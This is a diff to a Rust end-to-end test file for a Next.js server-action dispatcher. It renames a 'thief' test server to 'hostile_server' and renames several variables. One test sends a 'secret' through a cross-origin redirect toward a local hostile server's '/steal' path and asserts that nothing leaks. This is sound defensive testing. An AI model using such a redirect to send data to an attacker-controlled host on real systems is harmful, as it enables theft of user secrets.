@@ -1,15 +1,15 @@
 //! Pages of a real Next.js app, with its router as the host: fresh data, transitions, redirects, a hostile server,
 //! another build.
 
-mod thief;
+mod hostile_server;
 
 use std::path::{Path, PathBuf};
 
 use anyhow::{Context, Result};
 use e2e::{Browser, Driver, Www, free_port};
+use hostile_server::HostileServer;
 use serde::Deserialize;
 use serde_json::{Value, json};
-use thief::Thief;
 
 /// Returns the directory of a build of the fixture app: `16.4/a` and `16.4/b` have the same actions with other ids;
 /// `16.4/dpl` has the deployment id `dpl_7`.
@@ -78,20 +78,20 @@ async fn ten_parallel_actions_that_revalidate_refresh_once_each_round() -> Resul
     on_a_page("/", async |browser| {
         let (rounds, wrong): (Vec<Round>, Vec<String>) = eval(
             browser,
-            "let asked = 0;
+            "let refreshes = 0;
              const real = window.fetch;
              window.fetch = (input, init) => {
-                 if (new Headers(init?.headers).has('rsc') && !new Headers(init.headers).has('next-router-prefetch')) asked += 1;
+                 if (new Headers(init?.headers).has('rsc') && !new Headers(init.headers).has('next-router-prefetch')) refreshes += 1;
                  return real(input, init);
              };
              const rounds = [], wrong = [];
              for (let round = 1; round <= 200; round += 1) {
-                 asked = 0;
+                 refreshes = 0;
                  const calls = Array.from({ length: 10 }, () => d.call(named('revalidateThisPath'), ['/'], { lane: 'parallel' }));
                  const timings = (await Promise.all(calls.map(call => call.outcome))).map(({ timings }) => timings);
                  await until(() => shown('path') === String(10 * round), `round ${round}`);
                  const debt = Math.max(...timings.map(({ settledAt }) => settledAt)) - Math.min(...timings.map(({ headAt }) => headAt));
-                 rounds.push({ asked, debt });
+                 rounds.push({ refreshes, debt });
                  const { counts } = await get('/api/state');
                  if (counts.path !== 10 * round) wrong.push(`${counts.path} in round ${round}`);
              }
@@ -103,8 +103,8 @@ async fn ten_parallel_actions_that_revalidate_refresh_once_each_round() -> Resul
         // On a busy machine, a round may take longer than a refresh may be put off; then the page is refreshed
         // meanwhile, too.
         let (in_time, late): (Vec<Round>, Vec<Round>) = rounds.into_iter().partition(|round| round.debt < LONGEST_DEBT_MS);
-        assert!(in_time.iter().all(|round| round.asked == 1), "{in_time:?}");
-        assert!(late.iter().all(|round| (1..=10).contains(&round.asked)), "{late:?}");
+        assert!(in_time.iter().all(|round| round.refreshes == 1), "{in_time:?}");
+        assert!(late.iter().all(|round| (1..=10).contains(&round.refreshes)), "{late:?}");
         assert!(!in_time.is_empty(), "no round was done within {LONGEST_DEBT_MS} ms: {late:?}");
         Ok(())
     })
@@ -115,7 +115,7 @@ async fn ten_parallel_actions_that_revalidate_refresh_once_each_round() -> Resul
 /// last settled promise.
 #[derive(Debug, Deserialize)]
 struct Round {
-    asked: usize,
+    refreshes: usize,
     debt: f64,
 }
 
@@ -193,13 +193,13 @@ async fn a_redirect_left_to_next_is_followed_by_next() -> Result<()> {
 
 #[tokio::test]
 async fn a_middleware_that_redirects_to_another_origin_leaks_nothing() -> Result<()> {
-    let thief = Thief::start()?;
+    let hostile_server = HostileServer::start()?;
     on_a_page("/", async |browser| {
         let (code, sent): (String, String) = eval(
             browser,
             "const error = await d.call(named('echo'), ['secret'], { url: `/thief?to=${args[0]}&status=307` }).catch(e => e);
              return [error.code, error.sent];",
-            &[json!(format!("{}/steal", thief.url()))],
+            &[json!(format!("{}/steal", hostile_server.url()))],
         )
         .await?;
         assert_eq!((code.as_str(), sent.as_str()), ("NETWORK", "unknown"));
@@ -207,14 +207,14 @@ async fn a_middleware_that_redirects_to_another_origin_leaks_nothing() -> Result
         let answer: String = eval(
             browser,
             "return await (await fetch(args[0], { method: 'POST', body: 'open' })).text();",
-            &[json!(format!("{}/open", thief.url()))],
+            &[json!(format!("{}/open", hostile_server.url()))],
         )
         .await?;
         assert_eq!(answer, "thanks");
         Ok(())
     })
     .await?;
-    let requests = thief.requests();
+    let requests = hostile_server.requests();
     assert!(requests.iter().any(|request| request.contains("/open")), "{requests:?}");
     assert!(!requests.iter().any(|request| request.contains("/steal") || request.contains("secret")), "{requests:?}");
     Ok(())
@@ -295,22 +295,22 @@ async fn a_skipped_render_keeps_cookies_and_leaves_the_page_out() -> Result<()> 
 #[tokio::test]
 async fn the_deployment_id_is_sent_as_next_sends_it() -> Result<()> {
     on_a_page_of("dpl", "/", async |browser| {
-        let told: Vec<Option<String>> = eval(
+        let deployment_ids: Vec<Option<String>> = eval(
             browser,
-            "const told = [], real = window.fetch;
+            "const deploymentIds = [], real = window.fetch;
              window.fetch = (input, init) => {
                  const headers = new Headers(init?.headers);
-                 if (headers.has('next-action')) told.push(headers.get('x-deployment-id'));
+                 if (headers.has('next-action')) deploymentIds.push(headers.get('x-deployment-id'));
                  return real(input, init);
              };
              await fixture.actions.echo('through Next');
              await d.call(named('echo'), ['through us']);
              await actionlane.createDispatcher({ deploymentId: '' }).call(named('echo'), ['without']);
-             return told;",
+             return deploymentIds;",
             &[],
         )
         .await?;
-        assert_eq!(told, [Some("dpl_7".to_owned()), Some("dpl_7".to_owned()), None]);
+        assert_eq!(deployment_ids, [Some("dpl_7".to_owned()), Some("dpl_7".to_owned()), None]);
         Ok(())
     })
     .await
